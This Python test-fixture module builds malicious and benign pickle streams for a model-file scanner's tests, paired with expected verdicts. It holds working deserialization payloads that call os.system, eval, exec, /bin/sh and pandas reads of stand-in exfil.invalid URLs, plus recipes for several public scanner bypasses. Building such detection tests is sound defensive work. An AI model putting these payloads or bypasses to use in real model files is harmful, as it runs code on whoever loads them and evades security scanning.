"""Hostile and benign pickle streams for the FMFL-R04 tests, built opcode by opcode.

Each builder reproduces a public scanner bypass (the source is named in its docstring) or a case
from fmfl-audit issue 16; none of these bytes is ever unpickled by the tests. `CASES` maps a case
name to (bytes, expected verdict, names the scan must report).
"""

from __future__ import annotations

import pickle
import struct

P = pickle  # opcode constants: pickle.GLOBAL, pickle.MEMOIZE, ...


def _u(text: str) -> bytes:
    """SHORT_BINUNICODE `text`."""
    raw = text.encode()
    return P.SHORT_BINUNICODE + bytes([len(raw)]) + raw


def _call(module: str, name: str, arg: str, *, proto: int = 4) -> bytes:
    """`module.name(arg)` with STACK_GLOBAL (protocol 4) or GLOBAL (protocol 2)."""
    head = P.PROTO + bytes([proto])
    target = (
        _u(module) + _u(name) + P.STACK_GLOBAL
        if proto >= 4
        else P.GLOBAL + f"{module}\n{name}\n".encode()
    )
    return head + target + _u(arg) + P.TUPLE1 + P.REDUCE + P.STOP


def protocol0_system() -> bytes:
    """The classic protocol-0 `os.system` pickle (no PROTO header): issue 16."""
    return b"cos\nsystem\n(S'touch /tmp/fmfl-r04-pwned'\ntR."


def memo_mix() -> bytes:
    """BINPUT and MEMOIZE mixed so that a memo-index-counting scanner sees `torch._utils`
    where the unpickler sees `os`: picklescan issue #14 (Doyensec)."""
    return (
        P.PROTO
        + b"\x04"
        + _u("os")
        + P.BINPUT
        + b"\x00"
        + _u("system")
        + P.BINPUT
        + b"\x01"
        + _u("torch._utils")
        + P.MEMOIZE
        + _u("_rebuild_tensor_v2")
        + P.MEMOIZE
        + P.POP
        + P.POP
        + P.POP
        + P.POP
        + P.BINGET
        + b"\x00"
        + P.BINGET
        + b"\x01"
        + P.STACK_GLOBAL
        + _u("id")
        + P.TUPLE1
        + P.REDUCE
        + P.STOP
    )


def build_setattr() -> bytes:
    """`BUILD` stores "os" / "system" as attributes of `numpy.prod`, then `STACK_GLOBAL` reads
    them back through `GLOBAL numpy prod.a`: modelscan issue #85."""
    state = b"N(" + P.UNICODE + b"a\n" + P.UNICODE + b"os\n" + P.DICT + P.TUPLE2 + P.BUILD
    state2 = b"N(" + P.UNICODE + b"b\n" + P.UNICODE + b"system\n" + P.DICT + P.TUPLE2 + P.BUILD
    return (
        P.PROTO
        + b"\x05"
        + P.GLOBAL
        + b"numpy\nprod\n"
        + state
        + state2
        + P.POP
        + P.GLOBAL
        + b"numpy\nprod.a\n"
        + P.PUT
        + b"0\n"
        + P.GLOBAL
        + b"numpy\nprod.b\n"
        + P.PUT
        + b"1\n"
        + P.POP
        + P.POP
        + P.GET
        + b"0\n"
        + P.GET
        + b"1\n"
        + P.STACK_GLOBAL
        + P.UNICODE
        + b"echo pwned\n"
        + P.TUPLE1
        + P.REDUCE
        + P.STOP
    )


def numpy_builtins() -> bytes:
    """`numpy.__builtins__` reached through an allowlisted-looking module, then `eval` fetched
    with a REDUCE on it: modelscan issue #330."""
    return bytes.fromhex(
        "80049566000000000000008c056e756d70798c0473697a659394948c056e756d70798c0c5f5f6275696c7469"
        "6e735f5f93949468017d7d8c0573686170656803738662680168018c046576616c86528c1d5f5f696d706f72"
        "745f5f28226f7322292e73797374656d28226964222985522e"
    )


def importlib_getattr() -> bytes:
    """`importlib.import_module("builtins")` then `builtins.getattr`: modelscan issue #331."""
    return (
        P.PROTO
        + b"\x04"
        + _u("importlib")
        + _u("import_module")
        + P.STACK_GLOBAL
        + _u("builtins")
        + P.TUPLE1
        + P.REDUCE
        + P.MEMOIZE
        + _u("builtins")
        + _u("getattr")
        + P.STACK_GLOBAL
        + P.BINGET
        + b"\x00"
        + _u("eval")
        + P.TUPLE2
        + P.REDUCE
        + _u("1+1")
        + P.TUPLE1
        + P.REDUCE
        + P.STOP
    )


def ext_code(code: int) -> bytes:
    """`EXT2 code` called with one argument: the callable comes from copyreg's registry."""
    return (
        P.PROTO
        + b"\x02"
        + P.EXT2
        + struct.pack("<H", code)
        + _u("id")
        + P.TUPLE1
        + P.REDUCE
        + P.STOP
    )


def obj_system() -> bytes:
    """Protocol-1 `OBJ` whose class is `os.system`."""
    return b"(cos\nsystem\nS'id'\no."


def inst_exec() -> bytes:
    """Protocol-0 `INST __builtin__ exec`: `fix_imports` maps it to builtins.exec."""
    return b"(S'print(1)'\ni__builtin__\nexec\n."


def dunder_globals() -> bytes:
    """A dotted name walking from an allowlisted function to its globals (protocol 4
    resolves dotted names): the GHSA-5j3x-jp52-966f class."""
    return (
        P.PROTO
        + b"\x04"
        + _u("torch._utils")
        + _u("_rebuild_tensor_v2.__globals__")
        + P.STACK_GLOBAL
        + P.STOP
    )


def newobj_unknown() -> bytes:
    """`NEWOBJ` of a class outside the allowlist (a pickled training-arguments object)."""
    return (
        P.PROTO
        + b"\x04"
        + _u("transformers.training_args")
        + _u("TrainingArguments")
        + P.STACK_GLOBAL
        + P.EMPTY_TUPLE
        + P.NEWOBJ
        + P.STOP
    )


def missing_memo() -> bytes:
    """`STACK_GLOBAL` whose name comes from a memo key never stored: picklescan PR #52,
    modelscan PR #348."""
    return P.PROTO + b"\x04" + _u("os") + P.BINGET + b"\x07" + P.STACK_GLOBAL + P.STOP


def benign_state() -> bytes:
    """A plain protocol-2 dict of floats and a list: no imports at all."""
    return pickle.dumps({"lr": 0.1, "steps": [1, 2, 3]}, protocol=2)


# name -> (bytes, verdict, names that must be among the reported imports)
# verdict: "dangerous" (critical), "unknown" (high), "anomaly" (high), "clean"
CASES: dict[str, tuple[bytes, str, tuple[str, ...]]] = {
    "protocol0_system": (protocol0_system(), "dangerous", ("os.system",)),
    "stack_global_system": (_call("os", "system", "id"), "dangerous", ("os.system",)),
    "global_proto2_posix": (
        _call("posix", "system", "id", proto=2),
        "dangerous",
        ("posix.system",),
    ),
    "memo_mix": (memo_mix(), "dangerous", ("os.system",)),
    "build_setattr": (
        build_setattr(),
        "dangerous",
        ("<unresolved: STACK_GLOBAL of computed operands>", "numpy.prod", "numpy.prod.a"),
    ),
    "numpy_builtins": (numpy_builtins(), "dangerous", ("numpy.__builtins__",)),
    "importlib_getattr": (
        importlib_getattr(),
        "dangerous",
        ("importlib.import_module", "builtins.getattr"),
    ),
    "collect_env_run": (
        _call("torch.utils.collect_env", "run", "id"),
        "dangerous",
        ("torch.utils.collect_env.run",),
    ),
    "pip_internal": (
        _call("pip._internal.cli.main", "main", "install"),
        "dangerous",
        ("pip._internal.cli.main.main",),
    ),
    "runpy": (_call("runpy", "_run_code", "print(1)"), "dangerous", ("runpy._run_code",)),
    "pandas_read_csv": (
        _call("pandas.io.parsers.readers", "read_csv", "https://exfil.invalid/?k=v"),
        "dangerous",
        ("pandas.io.parsers.readers.read_csv",),
    ),
    "pandas_top_read_csv": (
        _call("pandas", "read_csv", "https://exfil.invalid/"),
        "dangerous",
        ("pandas.read_csv",),
    ),
    "pandas_read_pickle": (
        _call("pandas", "read_pickle", "https://x.invalid/p.pkl"),
        "dangerous",
        ("pandas.read_pickle",),
    ),
    "spawnv_passfds": (
        _call("multiprocessing.util", "spawnv_passfds", "/bin/sh"),
        "dangerous",
        ("multiprocessing.util.spawnv_passfds",),
    ),
    "mlflow_entry_point": (
        _call("mlflow.projects.backend.local", "_run_entry_point", "id"),
        "dangerous",
        ("mlflow.projects.backend.local._run_entry_point",),
    ),
    "interpreters_run_string": (
        _call("_interpreters", "run_string", "import os"),
        "dangerous",
        ("_interpreters.run_string",),
    ),
    "torch_load": (_call("torch", "load", "/tmp/x.pt"), "dangerous", ("torch.load",)),
    "numpy_load": (_call("numpy", "load", "/tmp/x.npy"), "dangerous", ("numpy.load",)),
    "pathlib_touch": (
        _call("pathlib", "Path.touch", "/tmp/x"),
        "dangerous",
        ("pathlib.Path.touch",),
    ),
    "ext_unregistered": (
        ext_code(0x4242),
        "dangerous",
        ("<unresolved: unregistered extension code 16962>",),
    ),
    "obj_system": (obj_system(), "dangerous", ("os.system",)),
    "inst_exec": (inst_exec(), "dangerous", ("builtins.exec",)),
    "dunder_globals": (
        dunder_globals(),
        "dangerous",
        ("torch._utils._rebuild_tensor_v2.__globals__",),
    ),
    "missing_memo": (
        missing_memo(),
        "dangerous",
        ("<unresolved: STACK_GLOBAL of computed operands>",),
    ),
    "newobj_unknown": (
        newobj_unknown(),
        "unknown",
        ("transformers.training_args.TrainingArguments",),
    ),
    "benign_state": (benign_state(), "clean", ()),
}
